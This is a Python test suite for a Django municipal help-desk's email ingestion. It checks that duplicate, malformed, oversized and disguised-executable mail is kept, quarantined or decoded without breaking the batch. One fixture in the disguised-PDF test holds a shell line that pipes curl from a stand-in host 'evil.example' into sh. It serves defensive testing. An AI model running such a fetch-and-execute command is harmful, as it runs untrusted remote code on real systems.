"""Hostile and broken mail: kept, explained, never crashing the batch; quarantined inputs retried from the admin."""

import base64
import io
from email.message import EmailMessage

import pytest
from django.core.management import call_command
from django.db import transaction
from django.urls import reverse

from channels_app.adapters.email import store_email
from channels_app.models import InboundMessage
from channels_app.pipeline import ingest_inbound
from tickets.models import Message, Ticket, TicketEvent

from ..conftest import login_verified
from ..factories import QueueFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_tasks")]


@pytest.fixture
def desk(db):
    return QueueFactory()


def receive(raw: bytes):
    inbound, _created = store_email(raw, enqueue=False)
    return inbound, ingest_inbound(inbound.pk)


def mail_with(filename: str, content_type: str, payload: bytes, text: str = "In allegato il documento.") -> bytes:
    message = EmailMessage()
    message["From"] = "Luca Neri <luca.neri@example.org>"
    message["To"] = "urp@comune.example.it"
    message["Subject"] = "Documento"
    message["Message-ID"] = f"<{filename}.{len(payload)}@example.org>"
    message.set_content(text)
    maintype, subtype = content_type.split("/")
    message.add_attachment(payload, maintype=maintype, subtype=subtype, filename=filename)
    return message.as_bytes()


def test_the_same_mail_twice_is_one_message(desk):
    raw = mail_with("a.txt", "text/plain", b"hello")
    first, created = store_email(raw, enqueue=False)
    again, created_again = store_email(raw, enqueue=False)
    assert (created, created_again, first.pk) == (True, False, again.pk)
    ingest_inbound(first.pk)
    ingest_inbound(first.pk)  # a redelivered task
    assert Ticket.objects.count() == 1
    assert Message.objects.filter(direction=Message.Direction.INBOUND).count() == 1


def test_a_redelivery_inside_a_transaction_leaves_it_usable(desk):
    # Inside a caller's transaction, a message stored twice must neither break the transaction nor
    # lose what was stored before and after it.
    first_raw, second_raw = mail_with("a.txt", "text/plain", b"one"), mail_with("b.txt", "text/plain", b"two")
    with transaction.atomic():
        first, _ = store_email(first_raw, enqueue=False)
        again, created_again = store_email(first_raw, enqueue=False)
        second, created_second = store_email(second_raw, enqueue=False)
    assert (again.pk, created_again, created_second) == (first.pk, False, True)
    assert set(InboundMessage.objects.values_list("pk", flat=True)) == {first.pk, second.pk}


def test_the_same_mail_through_another_route_is_not_duplicated(desk):
    raw = mail_with("a.txt", "text/plain", b"hello")
    receive(raw)
    rerouted = b"Received: from mx2.example.org by mx.comune.example.it; Mon, 23 Nov 2026 10:00:00 +0100\r\n" + raw
    inbound, created = store_email(rerouted, enqueue=False)
    assert not created
    assert InboundMessage.objects.count() == 1


def test_missing_headers_still_make_a_ticket(desk):
    inbound, outcome = receive(b"Solo testo, nessuna intestazione.\r\nSeconda riga.\r\n")
    # No header block at all: not an e-mail; kept and quarantined.
    assert outcome.quarantined and bytes(inbound.raw).startswith(b"Solo testo")
    inbound, outcome = receive(b"X-Mailer: scanner\r\n\r\nDocumento scansionato senza mittente ne oggetto.\r\n")
    assert outcome.created
    ticket = outcome.created[0]
    assert ticket.citizen.email == ""
    assert inbound.external_id.startswith("sha256:")  # no Message-ID: keyed by the bytes
    assert "Documento scansionato" in ticket.messages.get().text


def test_malformed_mime_is_read_as_far_as_possible(desk):
    raw = (
        b"From: a@example.org\r\nSubject: rotto\r\nMessage-ID: <broken@example.org>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="never-closed"\r\n\r\n'
        b"--never-closed\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nTesto leggibile\r\n"
        b"--never-closed\r\nContent-Type: application/pdf; name=x.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"JVBERi0xLjQK!!!not base64 at all\r\n"
    )
    inbound, outcome = receive(raw)
    assert outcome.created
    assert "Testo leggibile" in outcome.created[0].messages.get().text
    assert bytes(inbound.raw) == raw


def test_eight_bit_garbage_is_quarantined_with_the_raw_bytes(desk):
    garbage = bytes(range(256)) * 40
    inbound, outcome = receive(garbage)
    inbound.refresh_from_db()
    if outcome.quarantined:
        assert inbound.state == InboundMessage.State.QUARANTINED
        assert inbound.error
    else:  # read as a (hopeless) message with whatever could be decoded
        assert inbound.state == InboundMessage.State.PROCESSED
    assert bytes(inbound.raw) == garbage


def test_eight_bit_headers_and_body_are_decoded(desk):
    raw = (
        b"From: Jos\xe9 <jose@example.org>\r\nSubject: Caf\xe9 \xe8 chiuso\r\nMessage-ID: <8bit@example.org>\r\n\r\n"
        b"Perch\xe9 l'ufficio \xe8 chiuso?\r\n"
    )
    _inbound, outcome = receive(raw)
    ticket = outcome.created[0]
    assert ticket.subject == "Café è chiuso"
    assert "Perché" in ticket.messages.get().text


def test_a_30_mb_attachment_is_replaced_by_a_note_and_the_message_is_kept(desk):
    big = b"%PDF-1.4\n" + b"0" * (30 * 1024 * 1024)
    raw = mail_with("scansione.pdf", "application/pdf", big)
    inbound, outcome = receive(raw)
    ticket = outcome.created[0]
    message = ticket.messages.get()
    assert "In allegato il documento." in message.text
    assert "scansione.pdf" in message.text and "25.0 MB" in message.text
    assert not message.attachments.exists()
    event = TicketEvent.objects.get(ticket=ticket, kind=TicketEvent.Kind.UPDATED)
    assert event.data["notice"] == "attachment_too_large"
    assert len(bytes(inbound.raw)) == len(raw)  # the original is still there, attachment included


@pytest.mark.parametrize(
    "payload",
    [
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run in DOS mode.",
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120,
        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
    ],
    ids=["windows-pe", "linux-elf", "shell-script"],
)
def test_a_program_disguised_as_a_pdf_is_quarantined_not_stored(desk, payload):
    raw = mail_with("fattura.pdf", "application/pdf", payload)
    inbound, outcome = receive(raw)
    ticket = outcome.created[0]
    message = ticket.messages.get()
    assert not message.attachments.exists()
    assert "fattura.pdf" in message.text and "quarantined" in message.text
    event = TicketEvent.objects.get(ticket=ticket, kind=TicketEvent.Kind.UPDATED)
    assert event.data["notice"] == "attachment_quarantined"
    assert base64.b64encode(payload)[:20] in bytes(inbound.raw)  # still in the raw mail for an expert


def test_an_image_named_pdf_is_stored_as_what_it_is(desk):
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 200
    _inbound, outcome = receive(mail_with("documento.pdf", "application/pdf", jpeg))
    attachment = outcome.created[0].attachments.get()
    assert attachment.content_type == "image/jpeg"


def test_a_real_pdf_is_kept(desk):
    _inbound, outcome = receive(mail_with("modulo.pdf", "application/pdf", b"%PDF-1.7\n1 0 obj\n"))
    attachment = outcome.created[0].attachments.get()
    assert (attachment.filename, attachment.content_type) == ("modulo.pdf", "application/pdf")


def test_html_pointing_at_a_missing_inline_image_is_fine(desk):
    message = EmailMessage()
    message["From"] = "a@example.org"
    message["Subject"] = "immagine"
    message["Message-ID"] = "<cid-missing@example.org>"
    message.set_content("vedi immagine")
    message.add_alternative('<p>vedi <img src="cid:nowhere@example.org"></p>', subtype="html")
    _inbound, outcome = receive(message.as_bytes())
    assert outcome.created
    assert "vedi immagine" in outcome.created[0].messages.get().text


def test_one_bad_file_does_not_stop_the_batch(desk, tmp_path):
    (tmp_path / "1-garbage.eml").write_bytes(b"\x00\x00\x00")
    (tmp_path / "2-good.eml").write_bytes(mail_with("a.txt", "text/plain", b"ciao"))
    out = io.StringIO()
    call_command("ingest_email", str(tmp_path), stdout=out, stderr=io.StringIO())
    lines = out.getvalue().splitlines()
    assert "1-garbage.eml: quarantined: " in lines[0]
    assert lines[1].split(": ", 1)[1].startswith("IST-")


def test_mail_from_ourselves_is_ignored_to_avoid_loops(desk, settings):
    settings.DEFAULT_FROM_EMAIL = "Sportello <sportello@comune.example.it>"
    raw = b"From: sportello@comune.example.it\r\nSubject: [IST-2026-0000001] ricevuta\r\nMessage-ID: <loop@x>\r\n\r\nx\r\n"
    _inbound, outcome = receive(raw)
    assert "loop" in outcome.ignored


def test_quarantined_mail_is_listed_in_the_admin_and_retried_after_a_fix(
    client, admin_user, django_capture_on_commit_callbacks
):
    # No queue is configured yet: the mail cannot become a ticket and is quarantined.
    inbound, outcome = receive(mail_with("a.txt", "text/plain", b"ciao"))
    assert outcome.quarantined
    login_verified(client, admin_user)  # administrators pass the second factor
    changelist = reverse("admin:channels_app_inboundmessage_changelist")
    response = client.get(changelist, {"state__exact": "quarantined", "channel": "email"})
    assert response.status_code == 200
    assert inbound.external_id[:30] in response.content.decode()
    detail = client.get(reverse("admin:channels_app_inboundmessage_change", args=[inbound.pk]))
    assert detail.status_code == 200
    assert f"{len(bytes(inbound.raw)):,} bytes" in detail.content.decode()

    QueueFactory()  # the fix
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(changelist, {"action": "retry", "_selected_action": [inbound.pk]}, follow=True)
    assert response.status_code == 200
    inbound.refresh_from_db()
    assert inbound.state == InboundMessage.State.PROCESSED
    assert Ticket.objects.count() == 1


def test_the_inbound_list_in_the_admin_has_a_fixed_query_count(
    client, admin_user, desk, django_assert_max_num_queries
):
    for i in range(30):
        receive(f"X-Only: {i}\r\n\r\nnumero {i}\r\n".encode())
    login_verified(client, admin_user)  # administrators pass the second factor
    with django_assert_max_num_queries(12):
        response = client.get(reverse("admin:channels_app_inboundmessage_changelist"))
    assert response.status_code == 200
